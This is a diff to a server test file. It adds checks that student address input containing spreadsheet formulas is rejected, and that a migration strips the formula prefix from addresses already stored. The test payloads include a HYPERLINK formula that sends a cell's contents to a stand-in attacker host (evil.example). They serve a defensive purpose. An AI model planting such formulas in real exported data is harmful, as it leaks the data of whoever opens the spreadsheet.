@@ -1,3 +1,4 @@
+import { readFile } from 'node:fs/promises'
 import { beforeEach, describe, expect, it } from 'vitest'
 import { makeApp } from '#server/app.ts'
 import { hashPassword } from '#server/credentials/password.ts'
@@ -142,9 +143,30 @@ describe('phone and address of a student of informatics', () => {
     }
     expect((await save('')).status).toBe(422)
     expect((await save('555123457', ' ')).status).toBe(422)
+    // What is exported to a spreadsheet must not run there.
+    for (const formula of ['=HYPERLINK("http://evil.example/?"&C2,"Tbilisi")', ' @SUM(A1)', 'Tbilisi;=1+1']) {
+      const { status, data } = await save('555123457', formula)
+      expect(status).toBe(422)
+      expect(data['address']).toEqual([expect.stringContaining('cannot begin with =')])
+    }
     for (const _ of [1, 2]) expect((await save('555123457')).status).toBe(200)
     expect(await readSaved()).toMatchObject({ phone: '555123457', address_ka: 'Tbilisi, Chavchavadze 1' })
     expect(await blockers()).toEqual([])
+  })
+
+  it('that were typed as a formula before lose it with the migration, and no others', async () => {
+    const clean = async (address: string) => {
+      await sql(`update student set address_ka = $q$${address}$q$, address_en = $q$${address}$q$`)
+      const url = new URL('../../db/migrations/066-addresses.sql', import.meta.url)
+      await sql(await readFile(url, 'utf8'))
+      return (await readSaved())!['address_ka']
+    }
+    expect(await clean('=HYPERLINK("http://evil.example/?"&C2,"Tbilisi")')).toBe(
+      'HYPERLINK("http://evil.example/?"&C2,"Tbilisi")',
+    )
+    expect(await clean('Tbilisi;=SUM(A1)')).toBe('Tbilisi; SUM(A1)')
+    for (const address of ['-', 'Tbilisi, Chavchavadze 1 (Vake)', '+995 555 12 34 56'])
+      expect(await clean(address)).toBe(address)
   })
 
   it('report a first phone to the e-mail, the security log and the history, once', async () => {
